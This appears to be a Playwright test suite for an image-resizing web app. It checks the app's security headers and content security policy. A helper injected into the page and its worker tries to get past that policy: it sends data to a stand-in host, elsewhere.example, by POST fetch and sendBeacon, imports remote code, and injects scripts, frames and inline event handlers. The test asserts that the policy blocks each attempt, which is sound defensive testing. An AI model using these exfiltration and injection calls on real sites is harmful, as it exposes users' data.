// What the page may do: nothing but what it is for. That each answer says so is looked at in served.spec.ts.
import { expect, type Response } from '@playwright/test';
import { App } from './support/app';
import { pictureFile } from './support/files';
import { test } from './support/test';

test.use({ breaksPolicy: true });

/** A place that answers everybody, if only it is asked. */
const ELSEWHERE = 'https://elsewhere.example/';

test('what the page fetches for its work, the core too, comes with the policy of the page', async ({
  page,
}) => {
  const answers: Response[] = [];
  page.on('response', (response) => answers.push(response));
  await page.goto('/');
  await expect.poll(() => answers.filter((each) => each.url().endsWith('.wasm')).length).toBe(1);
  const policies = new Map<string | undefined, string>();
  for (const answer of answers) {
    const headers = await answer.allHeaders();
    expect(headers, answer.url()).toMatchObject({
      'cross-origin-opener-policy': 'same-origin',
      'referrer-policy': 'no-referrer',
      'x-content-type-options': 'nosniff',
      'permissions-policy': expect.stringContaining('geolocation=()'),
    });
    policies.set(headers['content-security-policy'], answer.url());
  }
  expect([...policies.keys()]).toEqual([expect.stringMatching(/^default-src 'none'; script-src 'self' /)]);
  const core = answers.find((each) => each.url().endsWith('.wasm'));
  expect(await core?.headerValue('content-type')).toBe('application/wasm');
});

/** Tries to get out, in the page or in a worker, and gives back which rules forbade it, and what went well. */
async function tryToLeave(elsewhere: string): Promise<string[]> {
  const said: string[] = [];
  self.addEventListener('securitypolicyviolation', (event) =>
    said.push((event as SecurityPolicyViolationEvent).effectiveDirective),
  );
  await fetch(elsewhere, { method: 'POST', body: 'picture', mode: 'no-cors' }).catch(() => {});
  // Later: what the test itself asks for may make code out of text.
  setTimeout(() => {
    try {
      new Function('')();
      said.push('text became code');
    } catch {}
  });
  await import(elsewhere).catch(() => {});
  if ('document' in self) {
    const append = <Name extends keyof HTMLElementTagNameMap>(
      name: Name,
      set: Partial<HTMLElementTagNameMap[Name]>,
    ) => {
      // Text that is to become HTML or script is refused with an exception.
      try {
        document.body.append(Object.assign(document.createElement(name), set));
      } catch {}
    };
    append('script', { textContent: 'window.injected = true' });
    append('script', { src: elsewhere });
    append('img', { src: elsewhere });
    append('iframe', { src: elsewhere });
    append('div', { innerHTML: '<b onclick="window.injected = true">b</b>' });
    document.body.querySelector<HTMLElement>('[onclick]')?.click();
    try {
      document.body.setAttribute('onclick', 'window.injected = true');
    } catch {}
    document.body.click();
    navigator.sendBeacon(elsewhere, 'picture');
    if ('injected' in window) said.push('a script ran');
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
  // A page has the policy twice, from its host and in its HTML.
  return [...new Set(said)].sort();
}

test('no script that is put into the page runs, and nothing gets out of the page or its worker', async ({
  page,
}) => {
  // What is refused is noted as a request too, but never answered.
  const left: string[] = [];
  page.on('response', (response) => {
    if (response.url().startsWith(ELSEWHERE)) left.push(response.url());
  });
  await page.route(`${ELSEWHERE}**`, (route) => route.fulfill({ body: 'window.injected = true' }));
  const app = new App(page);
  await app.open(await pictureFile('picture.png', 60, 40));
  const [worker] = page.workers();
  expect(await worker?.evaluate(tryToLeave, ELSEWHERE)).toEqual([
    'connect-src',
    'require-trusted-types-for',
    'script-src-elem',
  ]);
  expect(await page.evaluate(tryToLeave, ELSEWHERE)).toEqual([
    'connect-src',
    'frame-src',
    'img-src',
    'require-trusted-types-for',
    'script-src-elem',
  ]);
  expect(left).toEqual([]);

  // And what it is for, it still does.
  await app.setSize(30, 20);
  await app.resize.click();
  await expect(app.toast('Image resized to 30x20')).toBeVisible();
});
